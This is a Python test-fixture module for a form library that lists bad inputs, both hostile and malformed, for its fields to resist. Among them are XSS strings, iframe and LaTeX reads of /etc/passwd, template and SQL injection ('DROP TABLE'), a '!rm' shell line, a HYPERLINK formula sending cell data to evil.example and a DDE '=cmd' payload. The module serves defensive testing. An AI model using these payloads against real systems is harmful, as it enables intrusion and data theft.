"""The bad inputs of promises.md §6, groups A, B and C, as data: each part tries them on its paths.

`FORM` asks one question of every kind, named like its kind. Nothing here reads or writes a file.
"""

from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any

from plakit.forms import Form

OPTIONS = [{"id": name, "label": f"Option {name.upper()}"} for name in ("a", "b", "c", "d")]
LEVELS = [{"value": value, "label": f"Level {value}"} for value in range(1, 6)]
QUESTIONS: list[dict[str, Any]] = [
    {"kind": "level", "levels": LEVELS, "wanted": True, "may_not_apply": True, "comment": True},
    {"kind": "choice", "options": OPTIONS},
    {"kind": "choices", "options": OPTIONS, "at_most": 3},
    {"kind": "number", "lowest": 0, "highest": 5, "whole": True},
    {"kind": "text"},
    {"kind": "contribution", "most_cards": 3, "longest": 10_000},
    {"kind": "grouping", "cards": [{"id": "k1", "text": "One"}, {"id": "k2", "text": "Two"}]},
    {"kind": "agree"},
    {"kind": "date", "earliest": "2012-01-01", "latest": "2013-12-31"},
    {"kind": "ranking", "options": OPTIONS, "at_most": 3, "ties": True, "may_abstain": True},
    {"kind": "points", "options": OPTIONS, "budget": 10, "most_each": 5},
    {"kind": "compare", "options": OPTIONS, "pairs": 6},  # all: each page may send any
    {"kind": "grid", "rows": OPTIONS, "levels": LEVELS, "may_not_apply": True},
    {"kind": "decision", "subjects": OPTIONS,
     "verdicts": [{"id": "yes", "label": "Accepted"}, {"id": "no", "label": "Refused"}]},
    {"kind": "outcome", "longest": 10_000},
    {"kind": "revise", "base": "As it stands.", "version": "2"},
    {"kind": "coding", "codes": OPTIONS, "may_not_apply": True, "passages": [
        {"id": "p", "label": "Problem", "text": "Too few 👩‍🏫 came. Then more.",
         "sentences": [[0, 17], [18, 28]]},
        {"id": "q", "label": "Steps", "text": "They met."}]},
]  # fmt: skip
FORM = Form.model_validate(
    {
        "id": "corpus", "title": "Corpus", "sections": [{"id": "s", "questions": [
            {"id": question["kind"], "label": f"A {question['kind']}?", **question}
            for question in QUESTIONS
        ]}],
    }
)  # fmt: skip

# One answer to each question that is right, as it is kept.
GOOD: dict[str, object] = {
    "level": {"now": 2, "wanted": 4},
    "choice": "a",
    "choices": ["a", "c"],
    "number": 3,
    "text": "Because.",
    "contribution": [{"id": "c1", "text": "A thought"}],
    "grouping": [{"id": "p1", "name": "Pile", "cards": ["k2"]}],
    "agree": "pass",
    "date": "2012-09-16",
    "ranking": {"order": [["c"], ["a", "b"]]},
    "points": {"a": 3, "d": 5},
    "compare": [
        {"first": "b", "second": "a", "says": "first"},
        {"first": "a", "second": "c", "says": "equal"},
    ],
    "grid": {"a": 5, "b": "does_not_apply"},
    "decision": [{"id": "a", "verdict": "yes", "reason": "Why."}, {"id": "c", "verdict": "no"}],
    "outcome": {"text": "We agree.", "standing": "consensus"},
    "revise": {"text": "As it will stand.", "base": "2"},
    "coding": [
        {
            "id": "e1",
            "passage": "p",
            "start": 18,
            "end": 28,
            "codes": ["a", "c"],
            "note": "Why.",
            "hash": "e267514e5b4a5f0f",
        },
        {
            "id": "e2",
            "passage": "q",
            "start": 0,
            "end": 9,
            "codes": ["b"],
            "note": "",
            "hash": "ab226026642c9001",
        },
    ],
}


@dataclass(frozen=True)
class Bad:
    """One bad input; ``number`` is its number in promises.md."""

    number: int
    name: str
    value: Any

    def __str__(self) -> str:
        return f"{self.number}-{self.name}"


@dataclass(frozen=True)
class BadText(Bad):
    """One bad text: ``kept`` is what a field with room for it keeps; "" = blank, None = refused."""

    value: str
    kept: str | None


def _kept(number: int, **texts: str) -> list[BadText]:
    """Give texts that are kept as they are."""
    return [BadText(number, name, text, text) for name, text in texts.items()]


def texts() -> tuple[BadText, ...]:
    """Group A: texts, for every field that people write in."""
    return tuple(_markup() + _letters() + _lengths() + _words())


def _markup() -> list[BadText]:
    return [
        *_kept(1, script="<script>alert(1)</script>"),
        *_kept(2, image="<img src=x onerror=alert(1)>"),
        *_kept(3, svg="<svg onload=alert(1)>"),
        *_kept(4, link="[x](javascript:alert(1))"),
        *_kept(5, tracker="![](//evil/x.png)"),
        *_kept(6, frame="<iframe src=file:///etc/passwd>"),
        *_kept(7, ends="</textarea></title></style><script>alert(1)</script>"),
        *_kept(8, attribute='" onmouseover="alert(1)'),
        *_kept(9, jinja="{{7*7}}", block="{% import os %}", dollar="${7*7}", hash="#{7}"),
        *_kept(10, href=r"$\href{javascript:alert(1)}{x}$", tex=r"\input{/etc/passwd} \write18{x}"),
        *_kept(11, typst='#read("/etc/passwd")', package='#import "@preview/x"'),
        *_kept(12, sql="'; DROP TABLE answer_event;--"),
        *_kept(13, format="%s %n {0.__class__}"),
        *_kept(29, heading='# a" onclick=alert(1)'),
        *_kept(30, fence="```\nx\n```", front="---\na: 1\n---", magic="%%html\n<b>", shell="!rm x"),
    ]


def _letters() -> list[BadText]:
    return [
        BadText(14, "nul", "a\x00b", None),
        BadText(14, "bell", "a\x07b", "ab"),
        BadText(14, "escape", "a\x1b[2Jb", "a[2Jb"),
        BadText(14, "end-of-file", "a\x1ab", "ab"),
        BadText(15, "half-a-letter", "a\ud800b", None),
        BadText(15, "other-half", "\udfff", None),
        *_kept(16, override="a\u202eb", isolate="\u2066a\u2069"),
        *_kept(17, line="a\u2028b", paragraph="a\u2029b"),
        *_kept(18, joiners="a\u200db\u200bc"),
        *_kept(19, cyrillic="\N{CYRILLIC CAPITAL LETTER A}nna"),
        *_kept(20, composed="\u00e9", decomposed="e\u0301"),
        *_kept(21, zalgo="a" + "\u0301" * 500),
        *_kept(22, family="👨‍👩‍👧‍👦", flag="🇦🇹"),
        *_kept(23, directions="سلام abc 123"),
        *_kept(24, greek="Σίσυφος", bulgarian="Ъгъл", turkish="Iıİi", sharp="Straße STRASSE"),
        BadText(25, "spaces", "  \t\n ", ""),
        BadText(25, "no-break", "\u00a0\u00a0", ""),
        BadText(25, "zero-width", "\u200b\u200d\ufeff", ""),
    ]


def _lengths() -> list[BadText]:
    return [
        *_kept(26, megabyte="x" * 1_000_000, longest="x" * 10_000, one_more="x" * 10_001),
        *_kept(27, lines="a\n" * 10_000, fewer_lines="a\n" * 1_000),
        *_kept(28, quotes=">" * 100_000, brackets="[" * 100_000, fewer=">" * 9_000),
    ]


def _words() -> list[BadText]:
    nothings = {word: word for word in ("Anonymous", "None", "nan", "NULL", "true", "N/A")}
    people = {
        "mail": "anna@example.org",
        "phone": "+43 1 234 56 78",
        "account": "AT61 1904 3002 3457 3201",
    }
    return [*_kept(31, **nothings), *_kept(32, **people)]


@dataclass(frozen=True)
class Field:
    """A place of a form where people write: how a text goes in, and how it comes out.

    ``blank`` tells whether a blank text is left out or refused.
    """

    name: str
    item: str
    longest: int
    put: Callable[[str], dict[str, Any]]
    take: Callable[[dict[str, Any]], str | None]
    blank: str = "left out"

    def __str__(self) -> str:
        return self.name


def text_fields() -> tuple[Field, ...]:
    """Every field of `FORM` that takes words."""
    return (
        Field("text", "text", 10_000, lambda text: {"value": text}, lambda kept: kept.get("value")),
        Field("comment", "level", 2_000, lambda text: {"comment": text},
              lambda kept: kept.get("comment")),
        Field("card", "contribution", 10_000, lambda text: {"value": [{"id": "c1", "text": text}]},
              lambda kept: kept["value"][0]["text"] if kept else None),
        Field("pile", "grouping", 200,
              lambda text: {"value": [{"id": "p1", "name": text, "cards": []}]},
              lambda kept: kept["value"][0]["name"], blank="refused"),
        Field("reason", "decision", 2_000,
              lambda text: {"value": [{"id": "a", "verdict": "yes", "reason": text}]},
              lambda kept: kept["value"][0].get("reason")),
        Field("outcome", "outcome", 10_000, lambda text: {"value": {"text": text}},
              lambda kept: kept["value"]["text"] if kept else None),
        Field("revise", "revise", 10_000, lambda text: {"value": {"text": text, "base": "2"}},
              lambda kept: kept["value"]["text"] if kept else None),
        Field("note", "coding", 2_000, lambda text: {"value": [_EXCERPT | {"note": text}]},
              lambda kept: kept["value"][0]["note"] or None),
    )  # fmt: skip


# Where one of the values below is right.
_RIGHT = {("number", "six-less-one"), ("number", "minus-nothing"), ("text", "string"),
          ("text", "option-index")}  # fmt: skip


def wrong_values(kind: str) -> tuple[Bad, ...]:
    """Group B: values that no question of `FORM` of this kind may keep."""
    anywhere = [bad for bad in _wrong_anywhere() if (kind, bad.name) not in _RIGHT]
    return (*anywhere, *(Bad(*bad) for bad in _WRONG.get(kind, ())))


@cache  # some are large
def _wrong_anywhere() -> tuple[Bad, ...]:
    return (
        Bad(33, "nan", float("nan")),
        Bad(33, "endless", float("inf")),
        Bad(33, "endless-below", float("-inf")),
        Bad(33, "too-large", float("1e400")),
        Bad(33, "minus-nothing", -0.0),
        Bad(34, "six", 6),
        Bad(34, "six-less-one", 5),
        Bad(35, "between", 2.5),
        Bad(36, "string", "3"),
        Bad(36, "true", True),
        Bad(36, "list", [3]),
        Bad(36, "fields", {}),
        Bad(36, "nothing", None),
        Bad(37, "below", -1),
        Bad(37, "option-index", "0"),
        Bad(38, "many", [*range(10_000)]),
        Bad(48, "deep", _nest(100_000)),
        Bad(48, "many-fields", {f"k{number}": 1 for number in range(100_000)}),
        Bad(48, "digits", 10**10_000),
        Bad(49, "clock", -62_135_596_801),
    )


def _nest(depth: int) -> object:
    nest: object = []
    for _ in range(depth):
        nest = [nest]
    return nest


def _levels_wrong(put: Callable[[object], object]) -> list[tuple[int, str, object]]:
    values = {"level-six": 6, "level-half": 2.5, "level-text": "3", "level-true": True,
              "level-list": [3], "level-nan": float("nan"), "level-none": None}  # fmt: skip
    return [(34, name, put(value)) for name, value in values.items()]


_PILE = {"id": "p1", "name": "Pile", "cards": []}
_PAIR = {"first": "a", "second": "b", "says": "first"}
_VERDICT = {"id": "a", "verdict": "yes"}
_LONG = "x" * 1_000
_EXCERPT = {"id": "e1", "passage": "q", "start": 0, "end": 9, "codes": ["a"]}

# What is wrong with a value of one kind only.
_WRONG: dict[str, list[tuple[int, str, object]]] = {
    "level": [*_levels_wrong(lambda value: {"now": value}), (36, "level-field", {"then": 1})],
    "choice": [(37, "label", "Option A"), (37, "long", _LONG)],
    "choices": [(37, "label", ["Option A"]), (38, "double", ["a", "a"]), (37, "index", [0]),
                (38, "too-many", ["a", "b", "c", "d"])],
    "number": [(34, "above", 5.5), (48, "long", _LONG)],
    "contribution": [(38, "double", [{"id": "c", "text": "A"}, {"id": "c", "text": "B"}]),
                     (36, "no-id", [{"text": "A"}]), (41, "owner", [{"id": "c", "owner": "x"}]),
                     (60, "id-is-a-path", [{"id": "../../x", "text": "A"}])],
    "grouping": [(37, "card", [_PILE | {"cards": ["k9"]}]),
                 (38, "double", [_PILE | {"cards": ["k1", "k1"]}]),
                 (61, "case", [_PILE, _PILE | {"id": "p2", "name": "PILE"}])],
    "agree": [(37, "case", "Agree"), (37, "yes", "yes"), (37, "long", _LONG)],
    "date": [(49, "1970", "1970-01-01"), (49, "2038", "2038-01-19"), (49, "9999", "9999-12-31"),
             (49, "no-such-day", "2013-02-29"), (49, "short", "2012-9-6"),
             (49, "time", "2012-09-16T10:00"), (49, "words", "16 September 2012"),
             (49, "week", "2012-W37-7"), (49, "line", "2012-09-16\n"), (49, "year-0", "0000-01-01"),
             (49, "wide", "２０１２-09-16"), (49, "long", _LONG)],
    "ranking": [(38, "double", {"order": [["a"], ["a"]]}), (38, "tied", {"order": [["a", "a"]]}),
                (38, "extra", {"order": [["x"]]}), (38, "no-lists", {"order": ["a"]}),
                (38, "empty-place", {"order": [["a"], []]}), (38, "no-order", {"order": None}),
                (38, "too-many", {"order": [["a", "b"], ["c"], ["d"]]}),
                (38, "ten-thousand", {"order": [["a"]] * 10_000}),
                (36, "abstains-1", {"abstains": 1}), (36, "abstains-no", {"abstains": False}),
                (36, "both", {"abstains": True, "order": [["a"]]})],
    "points": [(34, "over-budget", {"a": 5, "b": 5, "c": 1}), (34, "over-each", {"a": 6}),
               (35, "half", {"a": 2.5}), (36, "text", {"a": "3"}), (36, "true", {"a": True}),
               (33, "nan", {"a": float("nan")}), (37, "below", {"a": -1}), (37, "extra", {"x": 1}),
               (36, "none", {"a": 0}), (37, "long", {_LONG: 1})],
    "compare": [(38, "double", [_PAIR, {"first": "b", "second": "a", "says": "equal"}]),
                (38, "itself", [_PAIR | {"second": "a"}]), (37, "extra", [_PAIR | {"first": "x"}]),
                (37, "says", [_PAIR | {"says": "left"}]), (38, "half", [{"first": "a"}]),
                (38, "too-many", [_PAIR] * 7), (36, "says-true", [_PAIR | {"says": True}])],
    "grid": [*_levels_wrong(lambda value: {"a": value}), (37, "row", {"x": 1}),
             (37, "nothing", {"a": "prefers_not_to_say"}), (37, "not-asked", {"a": "not_asked"})],
    "decision": [(38, "double", [_VERDICT, _VERDICT]), (37, "subject", [_VERDICT | {"id": "x"}]),
                 (37, "verdict", [_VERDICT | {"verdict": "Accepted"}]), (38, "half", [{"id": "a"}]),
                 (36, "reason", [_VERDICT | {"reason": 3}]), (41, "by", [_VERDICT | {"by": "me"}])],
    "outcome": [(38, "blank-text", {"text": " ", "standing": "majority"}),
                (36, "text", {"text": 3}), (37, "standing", {"text": "A", "standing": "Consensus"}),
                (38, "no-text", {"standing": "majority"})],
    "revise": [(50, "older", {"text": "A", "base": "1"}), (50, "no-base", {"text": "A"}),
               (36, "base-is-a-number", {"text": "A", "base": 2}),
               (36, "text", {"text": 3, "base": "2"}),
               (50, "long", {"text": _LONG, "base": _LONG})],
    "coding": [
        *((number, name, [_EXCERPT | wrong]) for number, name, wrong in (
            (37, "passage", {"passage": "x"}), (37, "beyond", {"end": 10}),
            (37, "below", {"start": -1}), (35, "half", {"start": 0.5}),
            (36, "true", {"start": True}), (36, "text", {"end": "9"}),
            (37, "backwards", {"start": 9, "end": 4}),
            (37, "empty", {"end": 0}), (25, "blank", {"start": 4, "end": 5}),
            (48, "digits", {"end": 10**5_000}), (37, "code", {"codes": ["x"]}),
            (36, "no-code", {"codes": []}), (38, "code-twice", {"codes": ["a", "a"]}),
            (50, "other-text", {"hash": "0" * 16}), (36, "hash", {"hash": [_LONG]}),
            (41, "by", {"by": "me"}), (36, "note", {"note": 3}), (60, "path", {"id": "../../x"}),
        )),
        (38, "place-twice", [_EXCERPT, _EXCERPT | {"id": "e2"}]),
        (38, "id-twice", [_EXCERPT, _EXCERPT | {"end": 4}]),
    ],
}  # fmt: skip


def wrong_answers() -> tuple[Bad, ...]:
    """Group B: whole answers that no question keeps, whatever its kind."""
    return (
        Bad(36, "none", None),
        Bad(36, "text", "=1+1"),
        Bad(36, "list", []),
        Bad(36, "number", 3),
        Bad(37, "no-such-nothing", {"nothing": "whatever"}),
        Bad(37, "not-for-people", {"nothing": "unclear_in_source"}),
        Bad(36, "nothing-is-a-list", {"nothing": ["does_not_apply"]}),
        Bad(36, "both", {"value": "a", "nothing": "does_not_apply"}),
        Bad(41, "anothers", {"value": "a", "respondent": "0" * 32}),
        Bad(36, "long-field", {_LONG: 1}),
        Bad(36, "comment-is-a-number", {"comment": 3}),
    )


def wrong_messages() -> tuple[Bad, ...]:
    """Group B: messages that are no save of this page; a host answers none of them with "saved"."""
    save = {"kind": "save", "save_id": "0" * 32, "item": "choice", "answer": {"value": "a"},
            "form": FORM.fingerprint}  # fmt: skip
    return (
        Bad(43, "kind", {"kind": "evil"}),
        Bad(43, "no-kind", {}),
        Bad(43, "kind-is-a-list", {"kind": ["save"]}),
        Bad(43, "list", [save]),
        Bad(43, "text", "save"),
        Bad(43, "nothing", None),
        Bad(43, "bare", {"kind": "save"}),
        Bad(43, "short-id", save | {"save_id": "0"}),
        Bad(43, "no-hex", save | {"save_id": "z" * 32}),
        Bad(43, "id-is-a-number", save | {"save_id": 0}),
        Bad(43, "long-id", save | {"save_id": "0" * 10**6}),
        Bad(40, "item", save | {"item": "no-such-item"}),
        Bad(40, "item-is-a-list", save | {"item": ["choice"]}),
        Bad(44, "form", save | {"form": "0" * 64}),
        Bad(44, "form-is-a-number", save | {"form": 0}),
        Bad(44, "no-form", {name: part for name, part in save.items() if name != "form"}),
    )


def wrong_json() -> tuple[Bad, ...]:
    """Group B, 48: bodies that are no plain JSON object."""
    return (
        Bad(48, "double", '{"kind": "save", "kind": "hello"}'),
        Bad(48, "deep", "[" * 100_000 + "]" * 100_000),
        Bad(48, "deep-fields", '{"a":' * 100_000 + "1" + "}" * 100_000),
        Bad(48, "many-fields", "{" + ",".join(f'"k{n}":1' for n in range(100_000)) + "}"),
        Bad(48, "digits", '{"value": ' + "9" * 10_000 + "}"),
        Bad(33, "nan", '{"value": NaN}'),
        Bad(33, "endless", '{"value": -Infinity}'),
        Bad(15, "half-a-letter", '{"value": "\\ud800"}'),
        Bad(51, "half", '{"kind": "save", "answer": {"val'),
        Bad(51, "empty", ""),
    )


def names() -> tuple[Bad, ...]:
    """Group C: names, and what a spreadsheet or a file system makes of them.

    Each is a text that has to be kept and shown as it is, and never reckoned or followed.
    """
    return (
        *_bads(54, "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"),
        *_bads(55, '=HYPERLINK("http://evil.example/"&A1)'),
        *_bads(56, "=cmd|' /C calc'!A0"),
        *_bads(57, "a;b", "a,b", 'a"b', "a\nb"),
        *_bads(58, "-5 °C", "+43 1 234 56 78"),
        *_bads(59, "NO", "NA", "012", "1E5", "MAR1"),
        *_bads(60, "../../x", "CON", "a:b", "x" * 300, "end.", "-lead"),
        *_bads(61, "Schule Wien", "schule wien"),
        *_bads(62, "Other groups", "Total"),
    )


def _bads(number: int, *texts: str) -> list[Bad]:
    return [Bad(number, text[:20], text) for text in texts]


def group_counts() -> tuple[int, ...]:
    """Group C, 63: how many groups there may be."""
    return (0, 1, 200)


def answer_counts(k: int) -> tuple[int, ...]:
    """Group C, 64: how many people may have answered."""
    return (0, 1, k - 1, k)
